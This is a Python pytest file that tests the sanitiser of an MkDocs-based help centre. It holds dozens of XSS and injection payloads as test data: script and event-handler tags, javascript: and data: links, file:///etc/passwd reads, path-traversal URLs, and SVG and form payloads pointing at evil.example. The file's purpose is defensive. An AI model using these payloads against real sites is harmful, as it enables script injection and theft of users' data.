"""Who writes an article is no operator: it runs no script, shows no frame, sends no form and reads no file."""

from __future__ import annotations

import re
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config
from mkdocs.structure.files import File, Files
from mkdocs.structure.pages import Page
from playwright.sync_api import Browser

from flask_acct.config import Config, ConfigError, parse
from flask_acct.kb.articles import videos
from flask_acct.kb.articles.content import KbError
from flask_acct.kb.articles.knowledge_base import KnowledgeBase, centre
from flask_acct.kb.articles.parsed import markdown
from flask_acct.kb.articles.sanitising import HTML, MADE, clean, svg_fault
from flask_acct.kb.site import building, checks, layout, pdf
from flask_acct.kb.site.plugin import AcctPlugin

TOML = '[site]\nname = "Ortega Bakery"\nlocales = ["en"]\n[help]\narticles = "help"\nvideo_origins = ["https://v.example.com"]\n'
HEAD = "---\nscreens: []\ntags: [account]\n---\n"

ATTACKS = [
    "<script>fetch('/account/me')</script>",
    "x <script>fetch('/account/me')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src="x" onerror="alert(1)">',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](file:///etc/passwd)",
    "[x](sign-in.md){: onclick=alert(1) }",
    "[x](sign-in.md){: href=javascript:alert(1) }",
    '*x*{: style="position:fixed;inset:0" }',
    "Words.\n{: onmouseover=alert(1) }",
    "## Head {: #a onfocus=alert(1) }",
    "*x*{: class='md-overlay' }",
    "*x*{: #__config }",
    '<iframe src="file:///etc/passwd"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data='file:///etc/passwd'></object>",
    "<embed src='x.svg'>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body { display: none }</style>",
    '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<video src="https://evil.example/x.mp4" controls></video>',
    "<details open ontoggle=alert(1)>\n<summary>x</summary>\n</details>",
    "<div data-md-component='search-query'>x</div>",
    "</article></div></main><div>x</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "# x </title><script>alert(1)</script>",
    '<p title="a" / onclick=alert(1)>x</p>',
    "1. <b onclick=alert(1)>x</b>",
    "> <b onclick=alert(1)>x</b>",
    "| a |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "Words[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "<!--><script>alert(1)</script>-->",
]


class Seen(HTMLParser):
    """What a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.acts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in MADE:
            self.acts.append(tag)
        for name, value in attrs:
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", (value or "").lower()))
            bad = name in ("href", "src") and scheme and scheme[1] not in ("http", "https", "mailto", "tel")
            if (
                name.startswith(("on", "data-"))
                or name in ("style", "srcdoc")
                or bad
                or (name == "id" and str(value)[0] == "_")
            ):
                self.acts.append(name)


@pytest.fixture
def article(tmp_path: Path) -> Callable[[str], KnowledgeBase]:
    """A help centre with one article of the company's."""
    (tmp_path / "help/en").mkdir(parents=True)
    (tmp_path / "help/images").mkdir()
    (tmp_path / "acct.toml").write_text(TOML, "utf-8")

    def write(text: str) -> KnowledgeBase:
        (tmp_path / "help/en/order-bread.md").write_text(f"{HEAD}# Order bread\n\n{text}\n", "utf-8")
        return centre(str(tmp_path / "acct.toml"))

    return write


def said(made: KnowledgeBase) -> list[str]:
    return [str(one) for one in checks.article_problems("order-bread", "en", made)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_act_is_taken_out_of_the_page(attack: str) -> None:
    seen = Seen()
    seen.feed(clean(markdown().convert(f"# Order bread\n\n{attack}\n")))
    assert seen.acts == []


@pytest.mark.parametrize("attack", [one for one in ATTACKS if not one.startswith(("<javascript", "[x](<java"))])
def test_what_would_act_is_told_and_reaches_no_output(article: Callable[[str], KnowledgeBase], attack: str) -> None:
    made = article(attack)
    assert said(made)
    with pytest.raises(KbError):
        made.article("order-bread", "en")


@pytest.mark.parametrize(
    "text",
    [
        "<kbd>Ctrl</kbd> and <abbr title='Hypertext'>HTML</abbr>, 5 < 6 & 7 > 2, <b class='x' lang='es'>pan</b>",
        "`<script>alert(1)</script>`\n\n    <iframe src=x>\n\n```\n<img src=x onerror=alert(1)>\n```",
        "<details>\n<summary>More</summary>\nText\n</details>",
        "<!-- a note to myself -->\n\nWords. <br> More.",
        "[x](sign-in.md){: target=_blank title='Go' .md-button }",
        "H<sub>2</sub>O\n\n<table><tr><td colspan=2>x</td></tr></table>",
    ],
)
def test_what_only_shows_may_be_written(article: Callable[[str], KnowledgeBase], text: str) -> None:
    assert said(article(text)) == []


def test_the_list_names_nothing_that_acts() -> None:
    assert not {
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "link",
        "meta",
        "base",
    } & set(MADE)
    assert not [name for names in (*HTML.values(), *MADE.values()) for name in names if name.startswith("on")]


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">{}</svg>'
GOOD_SVG = SVG.format(
    '<style>.a { fill: red }</style><defs><linearGradient id="g"/></defs><path class="a" d="M0 0h9" fill="url(#g)"/>'
    '<use xlink:href="#g"/><text>Bread</text>'
)


def test_a_plain_drawing_is_a_picture(tmp_path: Path) -> None:
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    for text in (GOOD_SVG, f'<?xml version="1.0"?>{doctype}{GOOD_SVG}'):
        (tmp_path / "a.svg").write_text(text)
        assert svg_fault(tmp_path / "a.svg") == ""


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<script href="evil.js"/>',
        '<g onload="alert(1)"/>',
        "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='x'/></foreignObject>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
        '<use href="https://evil.example/x.svg#y"/>',
        '<image href="data:image/svg+xml;base64,AAAA"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<style>@import "https://evil.example/x.css";</style>',
        '<path style="fill: url(https://evil.example/x)"/>',
        "<?xml-stylesheet href='x.css'?>",
        "not closed <g>",
    ],
)
def test_an_svg_that_is_more_than_a_picture_is_refused(
    article: Callable[[str], KnowledgeBase], tmp_path: Path, inside: str
) -> None:
    for encoding in ("utf-8", "utf-16"):
        (tmp_path / "help/images/a.svg").write_text(SVG.format(inside), encoding)
        (problem,) = said(article("![A loaf](../images/a.svg)"))
        assert "which is more than a picture" in problem


def test_an_svg_with_entities_is_not_read_on(tmp_path: Path) -> None:
    (tmp_path / "a.svg").write_text(
        f'<!DOCTYPE svg [<!ENTITY a "{"x" * 99}"><!ENTITY b "{"&a;" * 99}">]>{SVG.format("&b;")}'
    )
    assert svg_fault(tmp_path / "a.svg") == "it has <!ENTITY>"


def test_a_link_out_of_the_folder_is_no_picture(article: Callable[[str], KnowledgeBase], tmp_path: Path) -> None:
    (tmp_path / "secret.png").write_bytes(b"secret")
    (tmp_path / "help/images/a.png").symlink_to(tmp_path / "secret.png")
    assert "outside of help/" in said(article("![A loaf](../images/a.png)"))[0]


@pytest.mark.parametrize(
    "slot", ["{% include '/etc/passwd' %}", "{% import 'x' as y %}", "{{ config.folder }}", "--8<-- '/etc/passwd'"]
)
def test_nothing_is_read_into_an_article(article: Callable[[str], KnowledgeBase], slot: str) -> None:
    made = article(slot)
    assert said(made) or "/etc/passwd" in made.article("order-bread", "en").body


@pytest.mark.parametrize(
    ("address", "told"),
    [
        ("https://evil.example/x.mp4", "of an origin that is not listed"),
        ("https://v.example.com.evil.example/x.mp4", "of an origin that is not listed"),
        ("https://v.example.com@evil.example/x.mp4", "of an origin that is not listed"),
        ("http://v.example.com/x.mp4", "of an origin that is not listed"),
        ("//evil.example/x.mp4", "of an origin that is not listed"),
        ("javascript:alert(1)", "of an origin that is not listed"),
        ("data:video/mp4;base64,AAAA", "of an origin that is not listed"),
        ("../videos/order.exe", "not one that browsers play"),
        ("../videos/order.mp4", "which is not there"),
    ],
)
def test_a_video_of_elsewhere_is_refused(article: Callable[[str], KnowledgeBase], address: str, told: str) -> None:
    assert told in said(article(f'{{{{ video("{address}", "How to order") }}}}'))[0]


def test_a_video_without_a_title_is_refused(article: Callable[[str], KnowledgeBase]) -> None:
    assert "has no title" in said(article('{{ video("https://v.example.com/x.mp4") }}'))[0]


def test_a_link_that_calls_itself_a_video_is_one_only_of_a_listed_origin() -> None:
    config = parse(TOML)
    for address in ("https://evil.example/embed", "https://evil.example/x.mp4", "javascript:alert(1)"):
        link = f'<a class="acct-video" href="{address}">x</a>'
        assert videos.shown(link, config) == link
    shown = videos.shown('<a class="acct-video" href="https://v.example.com/embed/1">A "b" &lt;c&gt;</a>', config)
    assert shown.startswith(
        '<iframe class="acct-video" src="https://v.example.com/embed/1" title="A &quot;b&quot; &lt;c&gt;"'
    )
    assert 'sandbox="allow-scripts allow-same-origin allow-presentation"' in shown


@pytest.mark.parametrize(
    "origin",
    ["https://v.example.com/", "http://v.example.com", "*", "https://*.example.com", "https://a.com; script-src *"],
)
def test_an_origin_is_one_web_site(origin: str) -> None:
    with pytest.raises(ConfigError, match="is not the origin of a web site"):
        parse(TOML.replace("https://v.example.com", origin))


def test_only_the_themes_scripts_are_in_the_policy(tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(
        "<script>theme()</script><script type='application/ld+json'>{}</script>"
        "<article><script>author()</script><style>author {}</style></article>"
        "<script>end()</script><style>theme {}</style>"
    )
    policy = building.policy(tmp_path)
    assert policy.count("'sha256-") == 3
    assert "frame-src" not in policy
    assert "media-src 'self';" in policy


def test_without_listed_origins_nothing_of_elsewhere_plays() -> None:
    assert Config().help.video_origins == ()


def test_a_title_is_text_wherever_the_theme_prints_it(article: Callable[[str], KnowledgeBase], tmp_path: Path) -> None:
    made = article("x")
    file = tmp_path / "help/en/order-bread.md"
    title = (
        "A &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src=x onerror=alert(2)&gt; `<iframe>`"
    )
    file.write_text(f"{HEAD}# {title}\n\n{title}\n\n## {title}\n", "utf-8")
    made = centre(str(tmp_path / "acct.toml"))
    assert said(made) == []
    building.build(made, tmp_path / "site", allow_unverified=True)
    for page in (tmp_path / "site").rglob("*.html"):
        text = page.read_text("utf-8")
        assert "alert(1)</script>" not in text
        assert "<img src=x" not in text
        assert "<iframe>" not in text


@pytest.mark.browser
def test_a_book_reads_nothing_but_its_folder(browser: Browser, tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text("the operator's secret")
    folder = tmp_path / "book"
    folder.mkdir()
    (folder / "link.txt").symlink_to(tmp_path / "secret.txt")
    addresses = [
        (tmp_path / "secret.txt").as_uri(),
        f"{pdf.ORIGIN}/../secret.txt",
        f"{pdf.ORIGIN}/%2e%2e/secret.txt",
        f"{pdf.ORIGIN}/..%2fsecret.txt",
        f"{pdf.ORIGIN}/link.txt",
        "http://127.0.0.1:9/",
    ]
    frames = "".join(f'<iframe src="{one}"></iframe><object data="{one}"></object>' for one in addresses)
    (folder / "book.html").write_text(f"<script>document.title = 'ran'</script><title>Book</title>{frames}")
    page = pdf.offline_page(browser)
    pdf.serve_from_folder(page, folder)
    page.goto(f"{pdf.ORIGIN}/book.html", wait_until="load")
    assert page.title() == "Book"
    assert not any("operator" in (layout.content() if layout.url.startswith("http") else "") for layout in page.frames)
    for address in addresses[1:]:
        with pytest.raises(Exception, match=r"ERR_|Failed|failed"):
            page.goto(address)
    page.context.close()


def test_every_page_is_cleaned_whatever_check_let_pass(article: Callable[[str], KnowledgeBase]) -> None:
    plugin = AcctPlugin()
    plugin.centre, plugin.locale, plugin.copy = article("x"), "en", layout.Copy()
    config = load_config(str(building.SETTINGS))
    page = Page(None, File("order-bread.md", "", "", True), config)
    made = plugin.on_page_content("<p onclick=x>Words</p><script>x</script>", page=page, config=config, files=Files([]))
    assert made == "<p>Words</p>"


def test_a_script_beside_the_articles_is_served_only_where_mkdocs_yml_names_it(tmp_path: Path) -> None:
    (tmp_path / "help/en").mkdir(parents=True)
    (tmp_path / "acct.toml").write_text(TOML, "utf-8")
    for name in ("named.js", "evil.js", "evil.svg", "named.css"):
        (tmp_path / "help" / name).write_text("<svg/>", "utf-8")
    (tmp_path / "mkdocs.yml").write_text(
        "site_name: x\ndocs_dir: help\ntheme: {name: material}\nplugins: [acct, search]\n"
        "extra_javascript: [named.js]\nextra_css: [named.css]\n"
    )
    config = load_config(str(tmp_path / "mkdocs.yml"), site_dir=str(tmp_path / "site"))
    config.plugins["acct"].config.update(config=str(tmp_path / "acct.toml"), allow_unverified=True, jobs=1)  # type: ignore[attr-defined]
    mkdocs_build(config)
    site = tmp_path / "site/en"
    assert {file.name for file in site.glob("*.*")} >= {"named.js", "named.css"}
    assert not list(site.rglob("evil.*"))
    assert (site / "assets/acct/help.css").is_file()
